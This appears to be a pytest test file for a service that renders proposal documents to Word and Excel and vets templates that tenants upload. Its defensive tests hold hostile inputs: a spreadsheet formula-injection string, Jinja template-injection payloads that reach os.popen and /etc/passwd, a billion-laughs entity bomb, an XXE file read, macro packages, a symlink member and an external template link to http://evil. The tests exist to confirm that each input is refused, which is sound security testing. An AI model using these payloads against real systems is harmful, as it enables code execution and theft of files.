"""Word and workbook: what they say, that they repeat to the byte, and what a hostile template cannot do."""

import hashlib
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import docx
import pytest

from services.proposal.content.model import ProposalContent
from services.proposal.document import workbook as workbook_module
from services.proposal.document.formats import DOCX, XLSX
from services.proposal.document.samples import GOLDEN, LOGO
from services.proposal.document.word import word
from services.proposal.document.word_template import shipped_template
from services.proposal.document.workbook import workbook
from shared.documents.limited import RenderingFailed
from tests.support.proposal.document import CJK, bytes_of, content_of
from tests.support.proposal.makers import document, drafted
from tests.support.proposal.office import formulas, sheets, template, text_of

LINKED_TEMPLATE = b"""<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/a.dotm"
 TargetMode="External"/></Relationships>"""


# -- workbook


@pytest.mark.parametrize("language", ["zh", "en"])
def test_every_total_of_a_workbook_is_a_formula_whose_value_is_right(language):
    content = content_of("lending", 12)

    data = workbook(bytes_of(content), language)

    rows, found = sheets(data), formulas(data)
    work = next(sheet for name, sheet in rows.items() if name in {"工作量与报价", "Work and price"})
    total = sum(row[5] for row in work[1 : 1 + len(content.work)])
    assert total == pytest.approx(float(sum(line.price for line in content.work)))
    values = [value for _, value in found.values()]
    for figure in (content.key_figures.price_excl_tax, content.key_figures.tax, content.key_figures.price_incl_tax):
        assert float(figure) in values
    assert sum("SUM(" in formula for formula, _ in found.values()) >= 10


def test_the_checks_of_a_workbook_are_zero():
    content = content_of("permits", 6)

    summary = sheets(workbook(bytes_of(content), "en"))["Executive summary"]

    checks = {row[0]: row[1] for row in summary if row and str(row[0]).endswith("(must be nil)")}
    assert len(checks) == 2
    assert set(checks.values()) == {0}


def test_what_begins_like_a_formula_is_text():
    content = content_of("lending", 3)
    evil = content.requirements[0].model_copy(update={"title": '=cmd|"/c calc"!A1', "statement": "@SUM(A1)"})
    content = content.model_copy(update={"requirements": (evil, *content.requirements[1:])})

    data = workbook(bytes_of(content), "en")

    assert sheets(data)["Requirement matrix"][1][1] == '=cmd|"/c calc"!A1'
    assert not any("cmd" in formula for formula, _ in formulas(data).values())


def test_an_english_workbook_has_chinese_only_in_the_clients_words():
    content = content_of("permits", 6)

    assert CJK.findall(str(sheets(workbook(bytes_of(content), "en")))) == []


def test_equal_content_gives_an_equal_workbook():
    content = content_of("lending", 5)

    assert workbook(bytes_of(content), "zh") == workbook(bytes_of(content), "zh")


def test_every_text_of_a_workbook_is_there_in_both_languages():
    texts = json.loads((Path(workbook_module.__file__).parent / "texts.json").read_text(encoding="utf-8"))

    assert [key for key, entry in texts.items() if not entry["en"] or not CJK.search(entry["zh"])] == []
    assert [key for key, entry in texts.items() if CJK.search(entry["en"])] == []


# -- Word


@pytest.mark.parametrize("language", ["zh", "en"])
async def test_a_word_document_says_every_figure(language):
    content = content_of("lending", 12)

    text = text_of(await word(bytes_of(content), language, shipped_template()))

    figures = [f"{phase.total:,}" for phase in content.price.phases]
    figures += [f"{one.amount:,}" for one in content.price.payments] + [content.code, content.version_label]
    figures += [item.code for item in content.requirements] + [risk.code for risk in content.risks.items]
    figures += [f"{content.key_figures.price_incl_tax:,}"]
    assert [figure for figure in figures if figure not in text] == []
    assert "{{" not in text
    assert "{%" not in text
    assert "{currency}" not in text


@pytest.mark.parametrize(("language", "words"), [("en", "Anything that the requirement matrix does not list."), ("zh", "需求响应矩阵未列明的任何内容。")])  # fmt: skip
async def test_a_word_document_says_what_the_offer_rests_on_and_what_it_does_not_include(language, words):
    content = content_of("permits", 6)
    content = content.model_copy(update={"assumptions": content.assumptions.model_copy(update={"stated": ()})})

    text = text_of(await word(bytes_of(content), language, shipped_template()))

    until = content.schedule.calendar.announced_until
    assert [one for one in (*content.scope.out_of_scope, words, str(until.year)) if one not in text] == []


async def test_equal_content_gives_an_equal_word_document():
    content = content_of("permits", 3)

    assert await word(bytes_of(content), "en", shipped_template()) == await word(
        bytes_of(content), "en", shipped_template()
    )


async def test_what_data_say_is_text_whatever_it_holds():
    content = content_of("permits", 3)
    evil = content.model_copy(update={"title": "{{ 7*7 }} <w:br/> & {% raw %}"})

    text = text_of(await word(bytes_of(evil), "en", template("{{ title }}")))

    assert "{{ 7*7 }} <w:br/> & {% raw %}" in text


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("{{ title.__class__.__mro__[1].__subclasses__() }}", "SecurityError"),
        ("{{ ''.__class__ }}", "SecurityError"),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "SecurityError"),
        (
            "{% for a in range(99999) %}{% for b in range(99999) %}{{ a }}{% endfor %}{% endfor %}",
            "may have|took longer",
        ),
        ("{{ 'x' * 10**10 }}", "may have|MemoryError|took longer"),
        ("{{ nothing_of_the_kind }}", "UndefinedError"),
        ("{% include '/etc/passwd' %}", "TypeError|TemplateNotFound|no loader"),
        ("{% if %}", "TemplateSyntaxError"),
        ("{{ range(10**9)|list|length }}", "OverflowError|SecurityError"),
        ("{% for x in range(10**9) %}{% endfor %}", "OverflowError|SecurityError"),
        ("{% extends '/etc/passwd' %}", "no loader"),
        ("{% import 'os' as os %}", "no loader"),
        ("{{ ''.__class__.__mro__ }}", "SecurityError"),
        ("{{ ''|attr('__class__') }}", "SecurityError"),
        ("{{ '{0.__class__.__init__.__globals__}'.format(code) }}", "SecurityError"),
        ("{{ self.__init__.__globals__ }}", "SecurityError"),
        ("{{ '%10000000000d' % 1 }}", "more memory than it may have"),
        ("{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}", "RecursionError"),
        ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "RecursionError"),
    ],
)
async def test_a_hostile_or_broken_template_is_stopped_with_the_reason(line, reason):
    with pytest.raises(RenderingFailed, match=reason):
        await word(bytes_of(content_of("permits", 2)), "en", template(line), seconds=2)


def test_golden_contents_are_of_today():
    for path in GOLDEN.glob("*.json"):
        ProposalContent.model_validate_json(path.read_bytes())
    assert {path.stem for path in GOLDEN.glob("*.json")} == {"lending", "permits", "settled"}


def test_one_golden_content_has_every_part_that_there_is():
    content = ProposalContent.model_validate_json((GOLDEN / "settled.json").read_bytes())

    empty = [name for name in ProposalContent.model_fields if getattr(content, name) in (None, ())]
    # What was left out is for those who write the proposal, not for a template.
    assert empty == ["economics_of_other_price"]
    assert None not in (content.solution.design, content.price.discount)
    assert content.branding.logo_sha256 == hashlib.sha256(LOGO.read_bytes()).hexdigest()
    assert len(content.price.taxes) > 1


# -- over HTTP


async def uploaded(client, data, name="ours"):
    return await client.post(f"/templates?kind=word&name={name}", content=data)


@pytest.mark.parametrize(("form", "media_type"), [("docx", DOCX), ("xlsx", XLSX), ("pdf", "application/pdf")])
async def test_a_document_is_made_once_and_verified_to_the_byte(client, form, media_type):
    proposal = await drafted(client)

    first = await document(client, proposal, form)
    again = await document(client, proposal, form)
    verified = await client.post(f"/documents/{first.json()['id']}/verify")

    assert (first.status_code, again.status_code) == (200, 201), first.text
    assert (first.json()["media_type"], again.json()["id"]) == (media_type, first.json()["id"])
    assert first.json()["file_name"].endswith(f"-en.{form}")
    assert verified.json()["is_identical"] is True
    file = await client.get(f"/documents/{first.json()['id']}/file")
    assert file.headers["content-type"] == media_type


async def test_a_tenants_template_is_used_once_it_is_active(client):
    proposal = await drafted(client)
    before = (await document(client, proposal, "docx")).json()
    kept = (await uploaded(client, template("Offer {{ code }} for {{ client.name }}"))).json()

    activated = await client.act(f"/templates/{kept['id']}/activate")
    after = (await document(client, proposal, "docx")).json()

    assert activated.json()["status"] == "active"
    assert after["id"] != before["id"]
    text = text_of((await client.get(f"/documents/{after['id']}/file")).content)
    assert text.strip() == f"Offer {proposal['code']} for {proposal['client_name']}"
    assert (before["template_id"], after["template_id"]) == (None, kept["id"])


async def test_a_document_is_verified_on_the_template_that_it_was_made_on(client):
    proposal = await drafted(client)
    shipped = (await document(client, proposal, "docx")).json()
    first = (await uploaded(client, template("{{ code }}"))).json()
    await client.act(f"/templates/{first['id']}/activate")
    own = (await document(client, proposal, "docx")).json()
    second = (await uploaded(client, template("{{ title }}"))).json()
    await client.act(f"/templates/{second['id']}/activate")

    verified = [(await client.post(f"/documents/{one['id']}/verify")).json() for one in (shipped, own)]

    assert [(one["is_identical"], one["is_same_engine"]) for one in verified] == [(True, True)] * 2


async def test_the_next_active_template_retires_the_one_before(client):
    first = (await uploaded(client, template("{{ code }}"))).json()
    second = (await uploaded(client, template("{{ title }}"))).json()
    await client.act(f"/templates/{first['id']}/activate")

    await client.act(f"/templates/{second['id']}/activate")

    states = {one["number"]: one["status"] for one in (await client.get("/templates")).json()["items"]}
    assert states == {1: "retired", 2: "active"}


async def test_a_template_that_fails_on_sample_data_is_refused_with_the_reason(client):
    answer = await uploaded(client, template("{{ our_own_field }}"))

    assert (answer.status_code, answer.json()["code"]) == (422, "template_refused")
    assert "our_own_field" in answer.json()["detail"]


def packed(*new, changed=None):
    """A harmless Word template with further members, and others changed by name."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(template("{{ code }}"))) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file,
    ):
        for member in old.infolist():
            before, after = (changed or {}).get(member.filename, (b"", b""))
            file.writestr(member.filename, old.read(member).replace(before, after, 1))
        for name, data in new:
            file.writestr(name, data)
    return target.getvalue()


def related(kind, target, mode="Internal"):
    link = f'<Relationship Id="rId99" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return {"word/_rels/document.xml.rels": (b"</Relationships>", link.encode())}


LAUGHS = (
    b"<!DOCTYPE l ["
    + b"".join(f'<!ENTITY {b} "{f"&{a};" * 10}">'.encode() for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + b'<!ENTITY a "ha">]>'
)
SYMLINK = zipfile.ZipInfo("word/media/secret.png")
SYMLINK.external_attr = 0o120777 << 16


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (packed(("word/vbaProject.bin", b"x")), "holds macros"),
        (packed(("word/other.bin", b"x"), changed=related("vbaProject", "other.bin")), "holds macros"),
        (packed(changed={"[Content_Types].xml": (
            b"vnd.openxmlformats-officedocument.wordprocessingml.document.main", b"vnd.ms-word.document.macroEnabled.main"
        )}), "holds macros"),
        (packed(("word/_rels/settings.xml.rels", LINKED_TEMPLATE)), "draws content from elsewhere"),
        (packed(changed=related("attachedTemplate", "http://evil/a.dotm", "External")), "draws content from elsewhere"),
        (packed(changed=related("attachedTemplate", "http://evil/a.dotm", "&#69;xternal")), "draws content from elsewhere"),
        (packed(changed=related("oleObject", "file:///etc/passwd", " external ")), "draws content from elsewhere"),
        (packed(("word/media/a.bin", bytes(20_000_000))), "far larger than a document is"),
        (packed(("word/inner.zip", b"PK")), "archive within the file"),
        (packed(changed={"word/document.xml": (b"<w:document", LAUGHS + b"<w:document")}), "declares entities"),
        (packed(changed={"word/document.xml": (
            b"<w:document", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document'
        )}), "declares entities"),
        (packed(changed={"_rels/.rels": (b"<Relationships", b"<!DOCTYPE r><Relationships")}), "declares entities"),
        (packed(changed={"_rels/.rels": (b"</Relationships>", b"")}), "broken or cut short"),
        (packed(changed={"_rels/.rels": (b"UTF-8", b"no-such")}), "broken or cut short"),
        (b"PK not a package", "broken or cut short"),
        (b"", "broken or cut short"),
    ],
)  # fmt: skip
async def test_a_word_template_that_would_do_harm_is_refused_unopened(client, data, reason):
    answer = await uploaded(client, data)

    assert (answer.status_code, answer.json()["code"]) == (422, "template_harmful")
    assert reason in answer.json()["detail"]


async def test_entities_in_a_part_that_nobody_looks_at_reach_nothing():
    moved = {
        "word/document.xml": b"word/document.part",
        "word/_rels/document.xml.rels": b"word/_rels/document.part.rels",
    }
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template("{{ code }} [here]"))) as old, zipfile.ZipFile(target, "w") as file:
        for member in old.infolist():
            data = old.read(member).replace(b"word/document.xml", b"word/document.part")
            data = data.replace(b"<w:document", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document', 1)
            name = moved.get(member.filename, member.filename.encode()).decode()
            file.writestr(name, data.replace(b"[here]", b"[&x;]"))

    made = await word(bytes_of(content_of("permits", 2)), "en", target.getvalue())

    assert "root:" not in text_of(made)


async def test_a_link_to_a_file_in_a_template_is_no_link_in_the_document():
    made = await word(bytes_of(content_of("permits", 2)), "en", packed((SYMLINK, b"/etc/passwd")))

    with zipfile.ZipFile(io.BytesIO(made)) as package:
        assert [one.filename for one in package.infolist() if one.external_attr >> 28 == 0o12] == []


async def test_the_shipped_template_can_be_downloaded_and_uploaded_again(client):
    shipped = await client.get("/templates:shipped")

    assert (await uploaded(client, shipped.content)).status_code == 201


def test_amounts_of_the_golden_contents_add_up():
    for path in GOLDEN.glob("*.json"):
        content = ProposalContent.model_validate_json(path.read_bytes())
        assert sum((one.amount for one in content.price.payments), Decimal(0)) == content.key_figures.price_incl_tax


def test_columns_of_the_shipped_template_are_as_wide_as_their_cells_for_every_program():
    for table in docx.Document(io.BytesIO(shipped_template())).tables:
        assert [column.width for column in table.columns] == [cell.width for cell in table.rows[0].cells]
